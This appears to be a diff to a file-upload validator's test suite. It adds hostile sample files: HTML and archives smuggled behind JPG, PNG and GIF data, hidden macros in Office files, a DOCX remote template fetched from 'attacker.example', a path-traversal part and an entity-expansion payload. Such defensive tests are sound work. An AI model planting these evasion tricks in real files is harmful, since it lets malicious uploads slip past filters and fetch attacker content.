@@ -73,12 +73,32 @@ FILES: dict[str, tuple[str, str, bytes]] = {
     "HTML behind a PNG": ("picture.png", "image/png", corpus.png() + HTML),
     "HTML in a PNG's comment": ("picture.png", "image/png", corpus.png(corpus.chunk(b"tEXt", b"Comment\0" + HTML))),
     "an archive behind a JPG": ("picture.jpg", "image/jpeg", corpus.jpg() + corpus.package({"a.class": b"x"})),
+    "an archive behind a JPG without an end": (
+        "picture.jpg",
+        "image/jpeg",
+        corpus.jpg()[:-2] + corpus.package({"a.class": b"x"}),
+    ),
+    "HTML behind a JPG without an end": ("picture.jpg", "image/jpeg", corpus.jpg()[:-2] + HTML),
+    "HTML behind the settings of a Mac": (
+        "picture.jpg",
+        "image/jpeg",
+        corpus.jpg(corpus.segment(0xED, b"<!DOCTYPE plist><plist/>" + HTML)),
+    ),
+    "HTML between segments of a JPG": ("picture.jpg", "image/jpeg", corpus.jpg(b"\0\0" + HTML)),
+    "HTML behind a GIF without a trailer": ("picture.gif", "image/gif", corpus.gif()[:-1] + HTML),
     "a script in a GIF": ("picture.gif", "image/gif", b"GIF89a=1;alert(1)//" + bytes(40)),
     "HTML in CSV": ("table.csv", "text/csv", HTML),
     "HTML behind space in CSV": ("table.csv", "text/csv", b"\xef\xbb\xbf\r\n \t" + HTML),
     "a program in CSV": ("table.csv", "text/csv", b"MZ\x90\0" + bytes(100)),
     "HTML in DOC": ("letter.doc", "application/msword", HTML),
     "macros in DOC": ("letter.doc", "application/msword", corpus.doc("Macros", "VBA")),
+    "macros in a short DOC": ("letter.doc", "application/msword", corpus.short_doc(parent="Macros")),
+    "macros in DOCX by a relationship alone": (
+        "letter.docx",
+        DOCX,
+        corpus.docx({"word/_rels/document.xml.rels": corpus.relationships(("vbaProject", "any.dat", False))}),
+    ),
+    "macros that nobody can look for": ("table.xlsx", XLSX, corpus.doc(stream="EncryptedPackage")),
     "macros in DOCX": ("letter.docx", DOCX, macro("docx")),
     "macros in XLSX": ("table.xlsx", XLSX, macro("xlsx")),
     "a template fetched by DOCX": (
@@ -91,6 +111,22 @@ FILES: dict[str, tuple[str, str, bytes]] = {
                 )
             }
         ),
+    ),
+    "a template fetched by four slashes": (
+        "letter.docx",
+        DOCX,
+        corpus.docx(
+            {
+                "word/_rels/settings.xml.rels": corpus.relationships(
+                    ("attachedTemplate", "file:////attacker.example/share/t.dotm", True)
+                )
+            }
+        ),
+    ),
+    "a chunk fetched by DOCX": (
+        "letter.docx",
+        DOCX,
+        corpus.docx({"word/_rels/document.xml.rels": corpus.relationships(("aFChunk", "secret.html", True))}),
     ),
     "a part outside of DOCX": ("letter.docx", DOCX, corpus.docx({"../../outside.xml": "<a/>"})),
     "an entity in DOCX": ("letter.docx", DOCX, corpus.docx({"word/document.xml": LAUGHS})),
